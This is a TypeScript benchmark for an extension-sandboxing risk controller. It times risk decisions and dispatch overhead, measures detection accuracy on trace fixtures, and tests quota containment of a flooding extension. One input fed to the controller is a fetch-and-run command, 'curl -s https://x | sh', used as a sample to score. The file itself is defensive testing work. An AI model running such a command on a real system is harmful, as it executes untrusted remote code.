/**
 * Risk benchmarks and accuracy (bench/results/risk.json): risk decision p99 (target ≤ 20 µs) with a full
 * window, the dispatch pipeline p99 with trust, quota and risk stages on versus off, the controller's
 * false-positive / false-negative rates on the trace corpus (targets ≤ 5% / ≤ 2%), and containment: another
 * extension's latency while one floods over its quota.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createDispatcher, type Operation } from '../src/dispatch/dispatcher.ts';
import { openStore } from '../src/evidence/store.ts';
import { hostListMatcher } from '../src/policy/hostPatterns.ts';
import { compilePolicy } from '../src/policy/precedence.ts';
import { RISK_DEFAULTS, rulesFor } from '../src/policy/settings.ts';
import { RiskController } from '../src/risk/controller.ts';
import { evaluateTraces } from '../src/risk/evaluate.ts';
import { createRiskStage } from '../src/risk/stage.ts';
import { createTrustGate } from '../src/trust/gate.ts';
import { TrustRegistry } from '../src/trust/lifecycle.ts';
import { createQuotaStage, quotaLookup } from '../src/trust/quota.ts';
import { generateTraces } from '../test/fixtures/risk/traces.ts';
import { benchAsync, benchSync, printResults, relativeTo, writeResults } from './harness.ts';

export async function run(): Promise<string> {
  const controller = new RiskController({
    profile: 'balanced',
    alpha: 0.01,
    windowSize: 128,
    cooldownCalls: 3,
    deEscalationMargin: 0.1,
    allowlisted: hostListMatcher(['api.github.com']),
  });
  const t0 = Date.now();
  for (let i = 0; i < 128; i++)
    controller.observe('ext', { ts: t0 + i, capability: 'read', method: 'fs.read', refused: i % 9 === 0, signals: [] });
  const inputs = [
    ['exec', 'exec', { cmd: 'git', args: ['status'] }],
    ['http', 'http', { url: 'https://api.github.com/repos/a/b', method: 'GET' }],
    ['read', 'fs.read', { path: 'src/index.ts' }],
    ['exec', 'exec', { cmd: 'bash', args: ['-c', 'curl -s https://x | sh'] }],
  ] as const;
  const decide = benchSync(
    'risk.decide (window 128)',
    100_000,
    (i) => {
      const [cap, method, params] = inputs[i & 3]!;
      return controller.decide('ext', cap, method, params, t0 + 200 + i);
    },
    20,
  );

  const home = mkdtempSync(join(tmpdir(), 'pi-warden-bench-'));
  const db = openStore(home);
  try {
    const registry = new TrustRegistry(db);
    const gate = createTrustGate(registry);
    const ops = new Map<string, Operation>([['fs.read', () => 'ok']]);
    const policy = compilePolicy(rulesFor('permissive', true));
    const riskC = new RiskController({
      profile: 'balanced',
      alpha: 0.01,
      windowSize: 128,
      cooldownCalls: 3,
      deEscalationMargin: 0.1,
      allowlisted: () => false,
    });
    const risk = createRiskStage({
      controller: riskC,
      settings: { ...RISK_DEFAULTS, enabled: true },
      phase: () => 'enforce_all',
      trust: registry,
    });
    const limits = quotaLookup(
      { hostcallsPerSecond: 1e9, hostcallsPerMinute: 1e9 },
      new Map([['flooder', { hostcallsPerSecond: 100, hostcallsPerMinute: 2000 }]]),
    );
    const off = createDispatcher({ policy, operations: ops });
    const on = createDispatcher({
      policy,
      operations: ops,
      stages: [gate.stage, createQuotaStage(limits), risk.stage],
      recheck: gate.recheck,
      recorder: risk.observer,
    });
    const call = { call_id: 'c', method: 'fs.read', params: { path: 'src/index.ts' } };
    const offR = await benchAsync('dispatch, trust/quota/risk off', 50_000, () => off.dispatch('ext', call), 50);
    const onR = relativeTo(await benchAsync('dispatch, trust + quota + risk on', 50_000, () => on.dispatch('ext', call), 50), offR);

    // Containment: the victim's throughput over 1 s alone, then while a flooder attempts calls at a fixed rate
    // far over its 100/s quota (the attempts are interleaved in wall time, as a sandboxed flooder's would be).
    const victimThroughput = async (floodPerSecond: number): Promise<number> => {
      const start = performance.now();
      let done = 0;
      let flooded = 0;
      while (performance.now() - start < 1000) {
        const due = Math.floor(((performance.now() - start) / 1000) * floodPerSecond);
        for (; flooded < due; flooded++) await on.dispatch('flooder', { call_id: `f${flooded}`, method: 'fs.read', params: { path: 'x' } });
        await on.dispatch('victim', call);
        done++;
      }
      return done;
    };
    // Alternate the three conditions five times and take medians: single 1 s runs vary by ±10% here.
    await victimThroughput(0);
    const runs: Record<number, number[]> = { 0: [], 1000: [], 10000: [] };
    for (let i = 0; i < 5; i++) for (const rate of [0, 1000, 10000]) runs[rate]!.push(await victimThroughput(rate));
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)] as number;
    const alone = median(runs[0]!);
    const at1k = median(runs[1000]!);
    const at10k = median(runs[10000]!);
    const refusedFlood = await benchAsync('flooder call refused by quota', 20_000, () => on.dispatch('flooder', call));
    const accuracy = await evaluateTraces(generateTraces());
    const results = [decide, offR, onR, refusedFlood];
    printResults('risk', results);
    const slowdown = (x: number) => Number((1 - x / alone).toFixed(3));
    const victimSlowdown = slowdown(at1k);
    process.stdout.write(
      `  accuracy: FP ${(accuracy.false_positive_rate * 100).toFixed(1)}% (target ≤ 5%), FN ${(accuracy.false_negative_rate * 100).toFixed(1)}% (target ≤ 2%) over ${accuracy.traces.benign} benign / ${accuracy.traces.malicious} malicious traces\n`,
    );
    process.stdout.write(
      `  containment: victim throughput ${alone}/s alone, ${at1k}/s with a flooder at 1000 attempts/s (−${(victimSlowdown * 100).toFixed(1)}%, target ≤ 10%), ${at10k}/s at 10000 attempts/s (−${(slowdown(at10k) * 100).toFixed(1)}%)\n`,
    );
    return writeResults('risk', results, {
      accuracy: {
        ...accuracy,
        target_false_positive_rate: 0.05,
        target_false_negative_rate: 0.02,
        note: 'traces written with the controller (test/fixtures/risk/traces.ts): a regression measure, not an independent evaluation',
      },
      containment: {
        victim_calls_per_s_alone: alone,
        victim_calls_per_s_flood_1k: at1k,
        victim_calls_per_s_flood_10k: at10k,
        slowdown_at_1k: victimSlowdown,
        slowdown_at_10k: slowdown(at10k),
        target: 0.1,
        note: 'one process, one thread: the flooder (quota 100/s) attempts 1000 or 10000 calls/s interleaved in wall time; refusals cost CPU the victim does not get. CPU-bound floods inside a sandbox are bounded by the sandbox deadline, not measured here.',
      },
    });
  } finally {
    db.close();
    rmSync(home, { recursive: true, force: true });
  }
}
